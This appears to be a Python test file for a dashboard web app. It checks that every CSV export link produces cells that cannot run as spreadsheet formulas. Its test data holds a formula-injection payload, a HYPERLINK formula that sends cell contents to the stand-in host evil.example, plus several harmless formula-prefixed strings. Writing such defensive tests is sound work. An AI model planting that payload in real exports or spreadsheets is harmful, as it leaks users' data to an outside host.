"""Every CSV a dashboard page links to answers, and not one of its cells can run as a formula in a spreadsheet.

The pages are crawled as a coordinator would click them (every ``/dashboard/csv/...`` link on every
page), on demo data plus one company whose every free text starts like a formula: its name,
municipality and contact, a draft scan's advisor, its plan's title and action, its voucher's supplier.
"""

from __future__ import annotations

import csv
import io
import re
import uuid
from html import unescape

from advisor_app.domain.csvcells import csv_dialect, neutral_cell

from .dashboard import Dashboard
from .live import Api, LiveServer
from .records import change, company, plan, pushed, scan, voucher
from .test_dashboard import PAGES, programme

__all__ = ["programme"]
HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "municipality": "+Leeuwarden",
    "contact_person": "@Sjoerd",
    "advisor": "-Alice",
    "plan": "=1+1",
    "action": "\tTab vooraan",
    "supplier": "@SUM(1)",
}
LINK = re.compile(r'href="(/dashboard/csv/[^"]+)"')


def push_hostile(alice: Api) -> uuid.UUID:
    company_id = uuid.uuid4()
    details = company(
        name=HOSTILE["name"], kvk="87654321", municipality=HOSTILE["municipality"], contact_person=HOSTILE["contact_person"]
    )
    results = pushed(
        alice,
        change("company", company_id, details),
        change("scan", uuid.uuid4(), scan(company_id, completed=True, advisor=HOSTILE["advisor"])),
        change("scan", uuid.uuid4(), scan(company_id, advisor=HOSTILE["advisor"])),
        change(
            "plan",
            uuid.uuid4(),
            plan(company_id, title=HOSTILE["plan"], actions=[{"id": str(uuid.uuid4()), "description": HOSTILE["action"]}]),
        ),
        change("voucher", uuid.uuid4(), voucher(company_id, supplier=HOSTILE["supplier"], status="submitted")),
    )
    assert {r["status"] for r in results} == {"accepted"}, results
    return company_id


def test_every_csv_link_on_every_page_answers_with_neutral_cells(programme: None, server: LiveServer, alice: Api) -> None:
    company_id = push_hostile(alice)
    coordinator = Dashboard(server.url, "nl")
    assert coordinator.log_in("carol").status_code == 303
    links: set[str] = set()
    for path in (*PAGES, "/dashboard/versions", f"/dashboard/companies/{company_id}"):
        page = coordinator.get(path)
        assert page.status_code == 200, path
        links |= {unescape(link) for link in LINK.findall(page.text)}
    kinds = {link.split("?")[0] for link in links}
    assert {f"/dashboard/csv/{name}.csv" for name in ("scans", "drafts", "vouchers", "funnel", "effect", "summary")} <= kinds

    cells: list[str] = []
    for link in sorted(links):
        response = coordinator.get(link)
        assert response.status_code == 200, link
        assert response.headers["content-type"].startswith("text/csv"), link
        assert response.headers["content-disposition"].startswith('attachment; filename="basisscan-'), link
        rows = list(
            csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=csv_dialect(coordinator.language).delimiter)
        )
        assert rows, f"{link}: not even a header"
        found = [cell for row in rows for cell in row]
        assert [cell for cell in found if neutral_cell(cell) != cell] == [], f"{link}: a cell could run as a formula"
        cells += found
    reached = {what for what, text in HOSTILE.items() if "'" + text in cells}
    assert reached == {"name", "municipality", "supplier"}, "these reach a CSV (the others stay out of them), neutralised"
